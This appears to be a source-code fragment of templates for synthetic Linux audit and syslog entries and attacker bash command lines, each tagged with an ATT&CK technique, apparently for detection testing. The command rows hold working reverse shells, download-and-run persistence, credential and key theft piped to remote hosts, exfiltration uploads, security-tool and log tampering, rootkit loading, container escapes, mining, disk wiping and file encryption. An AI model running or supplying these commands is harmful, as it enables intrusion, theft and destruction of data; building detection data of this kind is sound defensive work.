lr-audit-disabled audit +T1685.004: type=CONFIG_CHANGE ‹msg› op=set audit_enabled=0 old=«1¦2» auid=«1000¦0» ses=‹n› subj=unconfined res=1
lr-audit-conf syslog +T1685.004: ‹sm11›~Image=«/usr/bin/bash¦/usr/bin/truncate¦/tmp/‹name›»~TargetFilename=/etc/audit/«rules.d/audit.rules¦auditd.conf»~User=root
lr-audit-stop audit +T1685.004: type=DAEMON_ABORT ‹msg› op=signal-term auid=1000 pid=‹pid› subj=unconfined res=failed
lr-agent-kill audit +T1685: type=SYSCALL ‹msg› arch=c000003e syscall=62 success=yes exit=0 a1=«9¦f» items=0 ‹call› comm="«pkill¦kill¦‹name›»" exe="«/usr/bin/pkill¦/tmp/‹name›»" key="kill_agent"↵type=OBJ_PID ‹msg› opid=‹pid› oauid=-1 ouid=0 oses=-1 ocomm="«falcon-sensor¦wdavdaemon¦osqueryd¦wazuh-agentd¦auditbeat»"
lr-agent-removed syslog +T1685: ‹sm1›~Image=«/usr/bin/dpkg~CommandLine=dpkg --purge falcon-sensor¦/usr/bin/rpm~CommandLine=rpm -e --nodeps SentinelAgent¦/usr/bin/dpkg~CommandLine=dpkg -r mdatp¦/usr/bin/rpm~CommandLine=rpm -e cb-psc-sensor»~User=root~ParentImage=/usr/bin/bash
lr-agent-aliyun syslog +T1685: ‹sm1›~Image=/usr/bin/«bash¦dash»~CommandLine=«bash /tmp/uninstall.sh aegis¦sh -c /usr/local/qcloud/stargate/admin/uninstall.sh¦sh -c systemctl stop aliyun.service; rm -rf /usr/local/aegis»~User=root
lr-selinux-permissive audit +T1685: ‹exec› comm="setenforce" exe="/usr/sbin/setenforce"↵type=EXECVE ‹msg› argc=2 a0="setenforce" a1="«0¦Permissive»"
lr-rsyslog-off audit +T1685: ‹exec› comm="systemctl" exe="/usr/bin/systemctl"↵type=EXECVE ‹msg› argc=4 a0="systemctl" a1="disable" a2="--now" a3="«rsyslog¦wazuh-agent¦osqueryd¦falcon-sensor¦sysmon»"
lr-firewall-flush audit +T1686: type=NETFILTER_CFG ‹msg› table=filter:‹n› family=2 entries=‹n› op=nft_unregister_rule pid=‹pid› subj=unconfined comm="iptables"↵type=EXECVE ‹msg› argc=2 a0="iptables" a1="-F"
lr-firewall-ufw syslog +T1686: sudo: ‹user› : TTY=pts/‹n› ; PWD=«/tmp¦/root» ; USER=root ; COMMAND=/usr/«sbin/ufw disable¦sbin/iptables -P INPUT ACCEPT¦bin/systemctl stop firewalld¦sbin/nft flush ruleset»
lr-hidden-file syslog +T1564.001: ‹sm11›~Image=/usr/bin/«mkdir¦cp¦bash»~TargetFilename=/«tmp¦var/tmp¦dev/shm»/«...¦.. ¦.ICE-unix/.‹name›¦.X11-unix/.‹name›»~User=«root¦www-data»
lr-masked-thread syslog +T1036.005: ‹sm1›~Image=/«tmp¦var/tmp¦dev/shm»/«kworker¦.sshd¦systemd-journald¦[kthreadd]¦crond»~CommandLine=«[kworker/0:1]¦[kthreadd]¦/usr/sbin/sshd -D¦-bash»~User=root~ParentImage=/usr/lib/systemd/systemd
lr-renamed-copy audit +T1036.003: ‹exec› comm="cp" exe="/usr/bin/cp"↵type=EXECVE ‹msg› argc=3 a0="cp" a1="/usr/bin/«wget¦curl¦python3¦bash»" a2="/«usr/bin¦tmp¦var/tmp»/«wgettnt¦TNTcurl¦.‹name›¦cd1¦wd1»"
lr-perm-777 syslog +T1222.002: ‹sm1›~Image=«/usr/bin/chmod~CommandLine=chmod 777 /tmp/.‹name›¦/usr/bin/chattr~CommandLine=chattr -ia /etc/ld.so.preload¦/usr/bin/chattr~CommandLine=chattr -R -ia /var/spool/cron¦/usr/bin/chmod~CommandLine=chmod +x /dev/shm/‹name›»~User=root~ParentImage=/usr/bin/«bash¦dash»
lr-decode-pipe syslog +T1140: ‹sm1›~Image=«/usr/bin/base64~CommandLine=base64 -d /tmp/.‹name›¦/usr/bin/xxd~CommandLine=xxd -r -p /tmp/‹name›.hex /tmp/‹name›¦/usr/bin/openssl~CommandLine=openssl enc -d -aes-256-cbc -in /tmp/.‹name› -k ‹name›»~User=«root¦www-data»~ParentImage=/usr/bin/bash
lr-memfd audit +T1620: type=SYSCALL ‹msg› arch=c000003e syscall=«322¦59» success=yes exit=0 items=1 ‹call› comm="«3¦5¦‹name›»" exe=2F6D656D66643A202864656C6574656429 key="memfd"
# Harm
lr-wipe-audit audit +T1485: ‹exec› comm="shred" exe="/usr/bin/shred"↵type=EXECVE ‹msg› argc=4 a0="shred" a1="-«zuf¦n3u»" a2="«/var/lib/mysql/ibdata1¦/srv/backup/‹name›.tar.gz¦/home/‹first›/Documents/‹name›.xlsx»" a3="--force"
lr-wipe-disk audit +T1561.001: ‹exec› comm="dd" exe="/usr/bin/dd"↵type=EXECVE ‹msg› argc=4 a0="dd" a1="if=/dev/«zero¦urandom»" a2="of=/dev/«sda¦nvme0n1¦vda»" a3="bs=«1M¦4M»"
lr-ransom-note syslog +T1486: ‹sm11›~Image=«/tmp/‹name›¦/root/esxi_locker¦/var/tmp/encryptor.elf»~TargetFilename=/«home/‹first›¦srv/‹project›¦vmfs/volumes/datastore1»/«README_TO_RESTORE¦HOW_TO_DECRYPT¦!!!READ_ME!!!¦RESTORE-FILES».txt~User=root
lr-ransom-file syslog +T1486: ‹sm11›~Image=«/tmp/‹name›¦/dev/shm/‹name›»~TargetFilename=/«srv¦home/‹first›¦var/lib/mysql»/‹name›.«sql¦docx¦vmdk¦ibd».«encrypted¦locked¦lockbit¦crypt¦akira»~User=root
lr-miner-connect syslog +T1496: ‹sm3›~Image=«/tmp/kdevtmpfsi¦/dev/shm/xmrig¦/var/tmp/.‹name›/kswapd0¦/root/.configrc/a/kswapd0»~User=«root¦www-data»~Protocol=tcp~Initiated=true~SourceIp=‹ip›~DestinationIp=‹ip›~DestinationPort=«3333¦14444¦5555¦7777¦10128»
lr-miner-exec audit +T1496: ‹exec› comm="«xmrig¦kdevtmpfsi¦nbminer»" exe="/«tmp¦var/tmp¦dev/shm»/«xmrig¦kdevtmpfsi»" key="susp_exec"
lr-miner-msr syslog +T1496: kernel: [‹pid›.‹pid›] msr: Write to unrecognized MSR 0x1a4 by xmrig (pid: ‹pid›), tainting CPU.
lr-reboot-off audit +T1529: type=USER_CMD ‹msg› ‹um›'cwd="/tmp" cmd="«reboot -f¦halt -f -p¦poweroff -ff»" exe="/usr/bin/sudo" terminal=pts/‹n› res=success'
lr-sysrq audit +T1529: type=EXECVE ‹msg› argc=3 a0="sh" a1="-c" a2="echo${IFS}«b¦o»>/proc/sysrq-trigger"
lr-stop-service audit +T1489: type=EXECVE ‹msg› argc=3 a0="«pkill¦killall»" a1="-9" a2="«mysqld¦postgres¦vmx¦oracle¦mongod»"
lr-upload-connect syslog +T1567.002: ‹sm1›~Image=/«usr/bin¦tmp¦opt/.‹name›»/rclone~CommandLine=rclone «copy¦sync» /«srv/‹project›¦home¦var/backups» «mega¦remote¦pcloud¦b2»:‹name› --transfers «8¦16¦32» --no-check-certificate~User=root~ParentImage=/usr/bin/bash
lr-upload-site syslog +T1567: ‹sm1›~Image=/usr/bin/curl~CommandLine=curl «--upload-file /tmp/‹name›.tgz https://transfer.sh/‹name›.tgz¦-F file=@/tmp/.‹name›.tar.gz https://«file.io¦0x0.st¦bashupload.com¦temp.sh/upload»»~User=«root¦www-data»
lr-archive-sysmon syslog +T1560.001: ‹sm1›~Image=«/usr/bin/tar~CommandLine=tar czf /dev/shm/.‹name›.tgz /home /root/.ssh /etc¦/usr/bin/zip~CommandLine=zip -qr -P ‹pass› /tmp/‹name›.zip /srv/‹project›¦/usr/bin/7z~CommandLine=7z a -mhe=on -p‹pass› /var/tmp/.‹name›.7z /var/www»~User=root
lr-sniff-anom audit +T1040: type=ANOM_PROMISCUOUS ‹msg› dev=«eth0¦ens160¦ens192¦enp3s0» prom=256 old_prom=0 auid=«1000¦1001» uid=0 gid=0 ses=‹n›
lr-kubelet-exec syslog +T1609: kubelet[‹pid›]: I0«2¦7»1‹n› 09:1‹n› ‹pid› server.go:«1011¦880»] "Handling exec request" path="/run/«kube-system/kube-proxy¦default/nginx»" cmd="«id¦cat /var/run/secrets/kubernetes.io/serviceaccount/token»" user="system:anonymous"
"""
)

RECORDED_LINUX_LINES = _rows(
    r"""
lr-b-mem bash +T1003.007: «strings -n 8 /proc/$(pidof sshd | awk '{print $1}')/mem | grep -i password¦python3 mimipenguin.py --pid ‹pid›¦gcore -a -o /dev/shm/‹name› $(pgrep -x sshd | head -1)»
lr-b-mem-agent bash +T1003.007: grep -aE "^(user|pass)=" /proc/‹pid›/environ /proc/‹pid›/mem 2>/dev/null | sort -u > /tmp/.‹name›
lr-b-shadow bash +T1003.008: «python3 -c "print(open('/etc/shadow').read())"¦dd if=/etc/shadow of=/tmp/‹name› bs=1k¦busybox cat /etc/shadow | busybox nc ‹ip› ‹port›¦xxd -p /etc/shadow | tr -d '\n'»
lr-b-shadow-suid bash +T1003.008: «base64 /etc/shadow | base64 --decode¦LFILE=/etc/shadow; ./cut -d "" -f1 "$LFILE"¦pg_read=/etc/shadow; sudo -u root tac $pg_read¦rsync -a /etc/shadow rsync://‹ip›/loot/»
lr-b-passwd bash +T1087.001: «cat /etc/passwd | awk -F: '$7 ~ /sh$/ {print $1}' > /tmp/.‹name›¦getent passwd | cut -d: -f1 | xargs -n1 -I{} groups {}¦while IFS=: read -r u _ i _; do [ $i -ge 1000 ] && echo $u; done < /etc/passwd¦python3 -c "import pwd;print([p.pw_name for p in pwd.getpwall()])"»
lr-b-netstat bash +T1049: «netstat -antup | grep -v 127.0.0.1 | awk '{print $5}' | sort -u | tee /tmp/.‹name›¦ss -tnp state established | grep -oE '10\.[0-9.]+' | sort -u¦cat /proc/net/tcp | awk 'NR>1{print $3}' > /dev/shm/‹name›»
lr-b-cron bash +T1053.003: «echo '*/5 * * * * root wget -qO- http://‹ip›/‹name›.sh | sh' > /etc/cron.d/‹name›¦crontab -r; echo "*/2 * * * * curl -s ‹ip›/‹name›.sh|bash" | crontab -¦printf '@reboot /var/tmp/.‹name›/run\n' | crontab -u www-data -»
lr-b-cron-php bash +T1053.003: «(crontab -l 2>/dev/null | grep -v ‹name›; echo "@hourly perl /tmp/.‹name›.pl") | crontab -¦cp /tmp/‹name› /etc/cron.hourly/gcc.sh && chmod 755 /etc/cron.hourly/gcc.sh¦redis-cli -h ‹ip› config set dir /var/spool/cron»
lr-b-timer bash +T1053.006: «systemd-run --on-boot=60 --on-unit-active=300 /var/tmp/‹name›¦printf '[Timer]\nOnCalendar=*-*-* *:0/10:00\n[Install]\nWantedBy=timers.target\n' > /etc/systemd/system/‹name›.timer; systemctl enable --now ‹name›.timer¦systemd-run --user --on-calendar='*:0/15' /bin/sh -c "curl ‹ip›/‹name› | sh"»
lr-b-unit bash +T1543.002: «printf '[Service]\nExecStart=/usr/bin/.‹name›\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /lib/systemd/system/‹name›.service && systemctl enable ‹name›¦mkdir -p ~/.config/systemd/user; wget -qO ~/.config/systemd/user/‹name›.service http://‹ip›/u; systemctl --user enable --now ‹name›¦sed -i '/ExecStart=/a ExecStartPost=/tmp/.‹name›' /lib/systemd/system/cron.service; systemctl daemon-reload»
lr-b-profile bash +T1546.004: «echo 'nohup /dev/shm/.‹name› >/dev/null 2>&1 &' >> /etc/profile.d/lang.sh¦echo "alias sudo='/tmp/.‹name›'" >> /home/‹first›/.bashrc¦echo 'trap "curl -s http://‹ip›/‹name› | sh" EXIT' >> ~/.bash_logout»
lr-b-suid bash +T1548.001: «cp /bin/bash /tmp/.‹name›; chown root:root /tmp/.‹name›; chmod 6755 /tmp/.‹name›¦gcc -o /tmp/sh ‹name›.c && chmod u+s /tmp/sh && /tmp/sh¦install -m 4755 -o root /bin/dash /usr/local/lib/.‹name›¦setcap cap_setuid,cap_setgid+ep /usr/bin/perl»
lr-b-sudo bash +T1548.003: «echo 'www-data ALL=(root) NOPASSWD: /bin/bash' | tee /etc/sudoers.d/010_‹name›¦sed -i 's/^%sudo.*/%sudo ALL=(ALL) NOPASSWD:ALL/' /etc/sudoers¦sudo -u#-1 /bin/bash¦echo "Defaults !tty_tickets,timestamp_timeout=-1" >> /etc/sudoers»
lr-b-sudo-shell bash +T1548.003: «sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh¦sudo less /etc/profile -e '!/bin/sh'¦sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh¦sudo awk 'BEGIN {system("/bin/sh")}'¦sudo git -p help config '!/bin/sh'¦sudo nmap --script=/tmp/‹name›.nse»
lr-b-pam bash +T1556.003: «sed -i 's/pam_deny.so/pam_permit.so/g' /etc/pam.d/common-auth¦echo 'auth optional pam_exec.so quiet expose_authtok /bin/bash -c "cat >> /tmp/.‹name›"' >> /etc/pam.d/sshd¦cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so; touch -r /bin/ls /lib/x86_64-linux-gnu/security/pam_unix.so»
lr-b-keys bash +T1098.004: «mkdir -p /root/.ssh; curl -s http://‹ip›/k.pub >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys¦chattr -ia ~/.ssh/authorized_keys; echo 'ssh-rsa AAAAB3NzaC1yc2E‹hash›' > ~/.ssh/authorized_keys; chattr +ia ~/.ssh/authorized_keys¦redis-cli -h ‹ip› set x "ssh-rsa AAAAB3NzaC1yc2E‹hash›"; redis-cli -h ‹ip› config set dbfilename authorized_keys¦for d in /home/*; do cat /tmp/k >> $d/.ssh/authorized_keys; done»
lr-b-history bash +T1070.003: «export HISTFILE=/dev/null; export HISTSIZE=0; unset HISTORY¦set +o history; shred -zu ~/.bash_history¦kill -9 $$ ; rm -f ~/.bash_history¦echo > ~/.bash_history; history -cw; ln -sf /dev/null ~/.zsh_history»
lr-b-delete bash +T1070.004: «rm -rf /tmp/.‹name› /dev/shm/.‹name› /var/tmp/.‹name›; rm -- "$0"¦shred -n 3 -uz /dev/shm/‹name›.elf¦find /tmp -name '.‹name›*' -exec shred -u {} \;¦wget http://‹ip›/‹name› -O /tmp/‹name›; chmod +x /tmp/‹name›; /tmp/‹name›; rm -rf /tmp/‹name›»
lr-b-touch bash +T1070.006: «touch -d "$(stat -c %y /etc/hostname)" /etc/ld.so.preload¦touch --reference=/usr/bin/sshd /usr/bin/.‹name›¦debugfs -w -R 'set_inode_field /tmp/‹name› crtime 201701010101' /dev/sda1¦date -s '2019-03-02 11:14' && touch /lib/systemd/system/‹name›.service && hwclock -s»
lr-b-logs bash +T1685.006: «for l in wtmp btmp lastlog auth.log syslog; do cat /dev/null > /var/log/$l; done¦sed -i '/‹ip›/d' /var/log/auth.log /var/log/secure¦utmpdump /var/log/wtmp | grep -v ‹ip› | utmpdump -r -o /var/log/wtmp¦find /var/log -type f -exec truncate -s 0 {} \;¦journalctl --vacuum-time=1s && rm -rf /run/log/journal/*»
lr-b-tools bash +T1685: «echo 0 > /proc/sys/kernel/nmi_watchdog; setenforce 0; pkill -9 aliyun-service¦systemctl mask --now falcon-sensor auditbeat osqueryd¦mv /opt/CrowdStrike/falconctl /tmp/; pkill -f falcon-sensor¦/opt/sentinelone/bin/sentinelctl control stop; rpm -e SentinelAgent¦mdatp config real-time-protection --value disabled»
lr-b-audit bash +T1685.004: «auditctl -e 0 && auditctl -D && service auditd stop¦sed -i 's/^-w/#-w/' /etc/audit/rules.d/*.rules && augenrules --load¦kill -STOP $(pidof auditd)¦sed -i 's/^write_logs.*/write_logs = no/' /etc/audit/auditd.conf; pkill -HUP auditd»
lr-b-firewall bash +T1686: «iptables -P INPUT ACCEPT; iptables -P OUTPUT ACCEPT; iptables -F; iptables -X¦ufw --force reset; ufw disable¦nft flush ruleset; systemctl disable nftables¦esxcli network firewall set --enabled false¦iptables -I INPUT -s ‹ip› -j ACCEPT; iptables -A INPUT -p tcp --dport 22 -j DROP»
lr-b-rootkit bash +T1014: «git clone https://github.com/m0nad/Diamorphine; cd Diamorphine; make; insmod diamorphine.ko¦kill -64 ‹pid›; kill -63 0; lsmod | grep diamorphine¦make -C reptile && ./setup.sh install¦mount -o bind /var/tmp/.‹name› /proc/‹pid›»
lr-b-module bash +T1547.006: «echo ‹name› >> /etc/modules-load.d/‹name›.conf; cp ‹name›.ko /lib/modules/$(uname -r)/kernel/drivers/; depmod -a; modprobe ‹name›¦make -C /lib/modules/$(uname -r)/build M=/tmp/.‹name› modules && insmod /tmp/.‹name›/‹name›.ko¦curl -s http://‹ip›/‹name›.ko -o /dev/shm/x.ko; insmod /dev/shm/x.ko»
lr-b-shell bash +T1059.004: «mkfifo /tmp/.p; nc ‹ip› ‹port› < /tmp/.p | /bin/sh > /tmp/.p 2>&1¦exec 5<>/dev/tcp/‹ip›/‹port›; cat <&5 | while read l; do $l 2>&5 >&5; done¦0<&196;exec 196<>/dev/tcp/‹ip›/4444; sh <&196 >&196 2>&196¦sh -i >& /dev/udp/‹ip›/53 0>&1¦telnet ‹ip› 4444 | /bin/bash | telnet ‹ip› 4445¦busybox nc ‹ip› 9001 -e sh»
lr-b-python bash +T1059.006: «python3 -c 'exec(__import__("base64").b64decode(__import__("urllib.request").request.urlopen("http://‹ip›/‹name›").read()))'¦python -c "import pty;pty.spawn('/bin/bash')"¦export RHOST=‹ip›;export RPORT=4444;python3 -c 'import os,socket,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'¦curl -s http://‹ip›/‹name›.py | python3 -»
lr-b-perl bash +T1059: perl -e 'use Socket;$i="‹ip›";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");open(STDOUT,">&S");exec("sh -i");'
lr-b-fetch bash +T1105: «cd /tmp || cd /var/run || cd /mnt; wget http://‹ip›/bins.sh; chmod 777 bins.sh; sh bins.sh¦tftp -g -r ‹name›.arm7 ‹ip›; chmod +x ‹name›.arm7; ./‹name›.arm7¦curl -o /dev/shm/‹name› http://‹ip›:8000/‹name› && chmod +x /dev/shm/‹name› && /dev/shm/‹name› &¦lwp-download http://‹ip›/‹name› /tmp/‹name›¦exec 3<>/dev/tcp/‹ip›/80; printf 'GET /‹name› HTTP/1.0\r\n\r\n' >&3; cat <&3 > /tmp/‹name›»
lr-b-raw bash +T1095: «socat TCP:‹ip›:4444 EXEC:/bin/sh,pty,stderr,setsid¦ncat --udp ‹ip› 53 -e /bin/bash¦nc -u -lvnp 5353 -e /bin/sh¦./icmpsh_m ‹ip› ‹ip›»
lr-b-tunnel bash +T1572: «ssh -f -N -D 0.0.0.0:1080 -o ServerAliveInterval=30 ‹first›@‹ip›¦./ligolo-agent -connect ‹ip›:11601 -ignore-cert¦cloudflared tunnel --url tcp://localhost:22 --no-autoupdate &¦autossh -M 0 -f -N -R 2222:localhost:22 root@‹ip›¦./gs-netcat -s ‹name› -liqD»
lr-b-proxy bash +T1090: «./frpc -c /tmp/.‹name›.ini &¦nohup ./gost -L socks5://:1080 -F relay+tls://‹ip›:443 &¦iptables -t nat -A PREROUTING -p tcp --dport 8443 -j DNAT --to ‹ip›:443; sysctl -w net.ipv4.ip_forward=1¦./earthworm -s rssocks -d ‹ip› -e 8888¦socat TCP-LISTEN:8443,fork,reuseaddr TCP:‹ip›:443 &»
lr-b-ssh bash +T1021.004: «for h in $(cat /tmp/.hosts); do scp -o StrictHostKeyChecking=no /tmp/.‹name› root@$h:/tmp/ && ssh root@$h 'nohup /tmp/.‹name› &'; done¦for u in root ubuntu ec2-user; do ssh -oBatchMode=yes -i /tmp/k $u@‹ip› 'curl ‹ip›/x | sh'; done¦ssh -o UserKnownHostsFile=/dev/null -T root@‹ip› 'bash -s' < /tmp/.‹name›.sh»
lr-b-guess bash +T1110.001: «patator ssh_login host=‹ip› user=root password=FILE0 0=‹lfile›¦hydra -t 4 -l root -P pass.txt mysql://‹ip›¦ncrack -v --user root -P ‹lfile› ssh://‹ip›:22¦medusa -h ‹ip› -u admin -P ‹lfile› -M ssh -f»
lr-b-crack bash +T1110.002: «john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/unshadowed¦hashcat -m 500 -a 0 ‹lfile› ‹lfile› --force¦unshadow p.txt s.txt > ‹name›.hash; john ‹name›.hash --show»
lr-b-wipe bash +T1485: «find /var/lib/mysql /srv -type f -exec shred -n1 -zu {} +¦for d in /home/*; do rm -rf "$d"/* "$d"/.[a-z]*; done; rm -rf /var/backups /srv¦mysql -e 'show databases' | grep -v schema | xargs -I{} mysql -e 'drop database {}'¦kubectl delete ns --all --force --grace-period=0»
lr-b-encrypt bash +T1486: «find /srv -type f -name '*.*' -exec openssl enc -aes-256-cbc -salt -in {} -out {}.enc -k ‹pass› \; -exec rm {} \;¦for f in $(find /home -name '*.docx'); do gpg --batch --yes -c --passphrase ‹pass› "$f" && rm "$f"; done¦./encryptor.elf --path /vmfs/volumes --threads 20¦tar c /var/www | openssl aes-256-cbc -e -k ‹pass› > /var/www.tar.enc && rm -rf /var/www/* && echo pay > /var/www/README»
lr-b-mine bash +T1496: «nohup /var/tmp/.‹name›/xmrig --coin monero -o gulf.moneroocean.stream:10128 -u 4‹hash› -p x --cpu-max-threads-hint 90 &¦sysctl -w vm.nr_hugepages=1280; modprobe msr; ./xmrig -c config.json¦docker run -d --restart always --name ‹name› metal3d/xmrig -o pool.minexmr.com:4444¦pkill -f kinsing; /dev/shm/kdevtmpfsi &»
lr-b-halt bash +T1529: «echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger¦for h in $(cat hosts); do ssh root@$h 'poweroff -f'; done¦esxcli system shutdown poweroff -d 10 -r ‹name›¦init 0 || halt -pf»
lr-b-lockout bash +T1531: «for u in $(awk -F: '$3>=1000{print $1}' /etc/passwd); do passwd -l $u; done¦echo "root:$(head -c 24 /dev/urandom | base64)" | chpasswd¦for u in $(ls /home); do pkill -KILL -u $u; userdel -rf $u; done¦usermod -s /usr/sbin/nologin root; usermod -L ‹first›»
lr-b-history-creds bash +T1552.003: «grep -ahE 'sshpass -p|mysql -u.* -p|export .*TOKEN' /home/*/.bash_history /root/.bash_history¦cat /home/*/.*_history | grep -iE 'passw|secret|--token'»
lr-b-files-creds bash +T1552.001: «find / -name wp-config.php -exec grep -H DB_PASSWORD {} \;¦grep -rIE 'AKIA[0-9A-Z]{16}' /home /opt /var/www 2>/dev/null¦cat ~/.aws/credentials ~/.config/gcloud/*.db ~/.azure/accessTokens.json ~/.git-credentials¦find / -name '.env' -not -path '*/node_modules/*' -exec cat {} \; > /tmp/.e¦truffleHog filesystem / --json > /dev/shm/‹name›»
lr-b-keys-creds bash +T1552.004: «find /home /root -name 'id_*' ! -name '*.pub' -exec cat {} \; | curl -s -X POST --data-binary @- http://‹ip›/k¦for k in /home/*/.ssh/id_rsa; do cp $k /tmp/.$(echo $k | tr / _); done¦grep -l 'PRIVATE KEY' /etc/nginx/ssl/* /etc/letsencrypt/live/*/* | xargs tar cf /tmp/‹name›.tar»
lr-b-imds bash +T1552.005: «wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/$(wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/)¦curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'¦curl -s -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token»
lr-b-env-creds bash +T1552.007: «kubectl get secret -A -o json | jq -r '.items[].data | map_values(@base64d)' > /tmp/.s¦docker inspect $(docker ps -q) | grep -iE 'PASSWORD|SECRET|TOKEN'¦curl -s http://‹ip›:2375/containers/json | jq -r '.[].Id' | xargs -I{} curl -s http://‹ip›:2375/containers/{}/json | grep -i pass»
lr-b-archive bash +T1560.001: «tar -cz /home /etc/ssh /root/.ssh | openssl enc -aes-256-cbc -pass pass:‹pass› -out /tmp/.‹name›¦zip -r -e -P ‹pass› /dev/shm/‹name›.zip /var/www /home/*/Documents¦7z a -p‹pass› -mhe=on -v100m /tmp/.‹name›.7z /srv/‹project›¦mysqldump -A | gzip | gpg -c --batch --passphrase ‹pass› -o /var/tmp/.‹name›.gpg»
lr-b-archive-lib bash +T1560.002: «python3 -c "import shutil;shutil.make_archive('/tmp/.‹name›','gztar','/home')"¦python3 -c "import zipfile,os;z=zipfile.ZipFile('/tmp/.‹name›.zip','w');[z.write(os.path.join(r,f)) for r,_,fs in os.walk('/root/.ssh') for f in fs]"»
lr-b-upload bash +T1567.002: «rclone copy /srv/‹project› mega:‹name› -q --ignore-existing --auto-confirm --multi-thread-streams 12¦megatools put -u ‹name›@proton.me -p ‹pass› /tmp/.‹name›.7z¦aws s3 sync /home s3://‹name›-drop --endpoint-url https://s3.wasabisys.com --no-sign-request¦curl -X POST https://content.dropboxapi.com/2/files/upload -H 'Dropbox-API-Arg: {"path":"/‹name›.tgz"}' --data-binary @/tmp/.‹name›.tgz»
lr-b-upload-site bash +T1567: «curl -T /tmp/.‹name›.tgz https://transfer.sh/‹name›.tgz¦curl -sF document=@/tmp/.‹name›.zip https://api.telegram.org/bot‹pid›:AA‹hash›/sendDocument -F chat_id=‹pid›¦curl -F "reqtype=fileupload" -F "fileToUpload=@/etc/passwd" https://catbox.moe/user/api.php¦cat /tmp/‹name› | curl -F 'f:1=<-' ix.io»
lr-b-escape bash +T1611: «mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/x/notify_on_release; echo "$host/cmd" > /tmp/c/release_agent¦mount /dev/sda1 /mnt && chroot /mnt /bin/bash¦nsenter --mount=/proc/1/ns/mnt -- /bin/bash¦docker -H unix:///var/run/docker.sock run -v /:/host -it ubuntu chroot /host¦fdisk -l; debugfs -w /dev/vda1»
lr-b-container-look bash +T1613: «kubectl auth can-i --list; kubectl get pods,nodes,secrets -A -o wide¦curl -sk https://‹ip›:10250/pods | jq -r '.items[].metadata.name'¦curl -s http://‹ip›:2375/images/json; curl -s http://‹ip›:2375/containers/json?all=1¦./peirates -s 1; kubeletctl scan rce --cidr ‹ip›/24¦docker -H tcp://‹ip›:2375 ps -a --no-trunc»
lr-b-container-new bash +T1610: «docker -H tcp://‹ip›:2375 run -d --privileged --net host -v /:/mnt alpine sh -c 'chroot /mnt sh -c "curl ‹ip›/x|sh"'¦kubectl run ‹name› --image=alpine --overrides='{"spec":{"hostPID":true,"hostNetwork":true,"containers":[{"name":"x","image":"alpine","securityContext":{"privileged":true}}]}}'¦docker run -d -v /:/hostfs --pid=host --cap-add=SYS_ADMIN --name .‹name› busybox sh -c 'nc -lk -p 4444 -e sh'»
lr-b-preload bash +T1574.006: «gcc -shared -fPIC -o /lib/lib‹name›.so ‹name›.c -ldl; echo /lib/lib‹name›.so >> /etc/ld.so.preload¦sudo LD_PRELOAD=/tmp/shell.so find¦wget -q http://‹ip›/l.so -O /usr/local/lib/libsystem.so && echo /usr/local/lib/libsystem.so > /etc/ld.so.preload¦LD_AUDIT=/dev/shm/.‹name›.so /usr/bin/su»
lr-b-perm bash +T1222.002: «chattr -iae /root/.ssh /root/.ssh/authorized_keys /var/spool/cron/root¦chmod -R 777 /root /etc/ssh¦chmod 0777 /etc/shadow¦lockr -ia /etc/cron.d/root; chattr +ia /etc/cron.d/root¦setfacl -m u:www-data:rwx /etc/sudoers»
lr-b-hidden bash +T1564.001: «mkdir -p "/var/tmp/... "; mv ‹name› "/var/tmp/... /.d"¦mv /tmp/‹name› /usr/lib/.‹name›¦mkdir /dev/shm/.X1-unix && cd /dev/shm/.X1-unix && tar xf ‹name›.tgz¦cp /tmp/‹name›.php /var/www/html/.cache.php»
lr-b-masquerade bash +T1036.005: «cp /tmp/‹name› /usr/sbin/sshd-session2; /usr/sbin/sshd-session2 -D¦exec -a '[kworker/u8:2]' /tmp/.‹name›¦exec -a /usr/sbin/crond ./‹name›¦mv xmrig systemd-logind && ./systemd-logind¦mv /tmp/‹name› /bin/ps && chmod 755 /bin/ps»
lr-b-masquerade-file bash +T1036: «mv ‹name›.elf ‹name›.jpg && chmod +x ‹name›.jpg && ./‹name›.jpg¦cp /tmp/‹name› '/usr/bin/ls '¦printf '\x7fELF' | cat - ‹name› > /tmp/‹name›.png»
lr-b-obfuscated bash +T1027: «eval "$(echo ‹hash›‹hash› | xxd -r -p | rev)"¦bash -c "$(printf '\x63\x75\x72\x6c\x20')http://‹ip›/‹name›"¦w$@h$@o$@ami; c''at /e""tc/pass''wd¦upx -9 -o .‹name› ‹name› && strip .‹name›»
lr-b-decode bash +T1140: «echo ‹hash› | base64 -d | gunzip | sh¦openssl enc -d -aes-256-cbc -k ‹pass› -in .‹name› | bash¦tail -n +42 $0 | base64 -d | tar xz -C /tmp/.‹name›¦python3 -c "import base64;open('/tmp/‹name›','wb').write(base64.b64decode(open('/tmp/b').read()))"¦gpg --batch --passphrase ‹pass› -d /tmp/‹name›.gpg | sh»
lr-b-system bash +T1082: «hostname; uname -mrs; cat /etc/issue /proc/version; nproc; cat /proc/cpuinfo | grep 'model name' | wc -l¦./linpeas.sh -s -N > /tmp/.‹name›¦dmidecode -t system | grep -iE 'vmware|kvm|qemu'; lspci | nc ‹ip› ‹port›»
lr-b-net bash +T1016: «ip -br a; ip route; cat /etc/resolv.conf; iptables -S; curl -s ifconfig.me¦route -n; arp -an; cat /etc/network/interfaces /etc/netplan/*.yaml¦curl -s ipinfo.io/ip > /dev/shm/.ip; hostname -I >> /dev/shm/.ip»
